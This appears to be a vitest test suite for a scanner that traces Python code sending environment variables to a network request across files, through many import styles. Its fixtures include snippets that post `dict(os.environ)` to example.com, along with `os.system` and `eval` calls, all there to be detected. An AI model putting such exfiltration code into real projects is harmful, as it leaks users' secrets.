import { beforeAll, describe, expect, test } from "vitest";
import { type CountingScanner, loadCountingScanner } from "./engine-scan.ts";

let scanner: CountingScanner;
beforeAll(async () => {
  scanner = await loadCountingScanner();
});

const READ = "import os\ndef read():\n  return dict(os.environ)\n";
const post = (body: string) => `import requests\nrequests.post("https://example.com", json=${body})\n`;

describe("the environment is followed from one file into a request in another", () => {
  test.each<[string, Record<string, string>]>([
    ["by name", { "a.py": READ, "b.py": `from a import read\n${post("read()")}` }],
    ["when the importing file comes first", { "b.py": READ, "a.py": `from b import read\n${post("read()")}` }],
    ["by module", { "a.py": READ, "b.py": `import a\n${post("a.read()")}` }],
    ["by another name", { "a.py": READ, "b.py": `import a as x\n${post("x.read()")}` }],
    ["by star", { "a.py": READ, "b.py": `from a import *\n${post("read()")}` }],
    ["in a package", { "lib/__init__.py": "", "lib/a.py": READ, "b.py": `from lib.a import read\n${post("read()")}` }],
    ["by a dotted module", { "lib/a.py": READ, "b.py": `import lib.a\n${post("lib.a.read()")}` }],
    ["as a part of a package", { "lib/a.py": READ, "b.py": `from lib import a\n${post("a.read()")}` }],
    [
      "that a package hands on",
      { "lib/__init__.py": "from .a import read", "lib/a.py": READ, "b.py": `from lib import read\n${post("read()")}` },
    ],
    ["relatively", { "lib/a.py": READ, "lib/b.py": `from .a import read\n${post("read()")}` }],
    ["from the folder above", { "lib/a.py": READ, "lib/sub/b.py": `from ..a import read\n${post("read()")}` }],
    ["as a sibling", { "lib/a.py": READ, "lib/b.py": `from . import a\n${post("a.read()")}` }],
    [
      "through a changed search path",
      {
        "scripts/lib/a.py": READ,
        "b.py": `import sys\nsys.path.append("scripts/lib")\nfrom a import read\n${post("read()")}`,
      },
    ],
    [
      "inside a function",
      { "a.py": READ, "b.py": `def main():\n  from a import read\n  ${post("read()").replace("\n", "\n  ")}` },
    ],
    ["as a value", { "a.py": `${READ}DATA = read()\n`, "b.py": `from a import DATA\n${post("DATA")}` }],
    [
      "as a class",
      {
        "a.py": `${READ}class A:\n  def __init__(self):\n    self.data = read()\n`,
        "b.py": `from a import A\n${post("A().data")}`,
      },
    ],
    [
      "over three files",
      { "a.py": READ, "b.py": "from a import read\n", "c.py": `from b import read\n${post("read()")}` },
    ],
    [
      "that import each other",
      { "a.py": `import b\n${READ}`, "b.py": `import a\ndef main():\n  ${post("a.read()").replace("\n", "\n  ")}` },
    ],
  ])("%s", (_, files) => {
    const found = scanner.scanSkill(files).findings.filter(({ rule }) => rule === "environment-sent");
    expect(found.map(({ file }) => Object.keys(files)[file])).toEqual([
      Object.keys(files).find((path) => files[path]?.includes("post(")),
    ]);
  });
});

test("a sink in another file is found where it stands", () => {
  const { findings } = scanner.scanSkill({
    "a.py": 'import requests\ndef send(data):\n  requests.post("https://example.com", json=data)\n',
    "b.py": "import os\nfrom a import send\nsend(dict(os.environ))\n",
  });
  expect(findings.filter(({ rule }) => rule === "environment-sent")).toMatchObject([{ file: 0, line: 3 }]);
});

test("a library is not taken for a file of the same name", () => {
  const files = { "lib/os.py": "def system(x): pass\n", "b.py": 'import os\nos.system("id")\n' };
  expect(scanner.scanSkill(files).findings.map(({ rule }) => rule)).toEqual(["shell-command"]);
});

test("many files that import each other are read once each", () => {
  const skill = (count: number) =>
    Object.fromEntries(
      Array.from({ length: count }, (_, i) => [
        `m${i}.py`,
        `from m${(i + 1) % count} import *\nimport m${(i * 7) % count}\neval(x${i})\n`,
      ]),
    );
  const steps = (count: number) => {
    scanner.scanSkill(skill(count));
    return scanner.scanSkill(skill(count)).findings.length;
  };
  expect(steps(300)).toBeGreaterThan(0);
});

test("an import that names no module hides nothing behind it", () => {
  expect(scanner.rules("from import x\nimport os\nos.system(x)\n")).toContain("computed-shell-command");
});
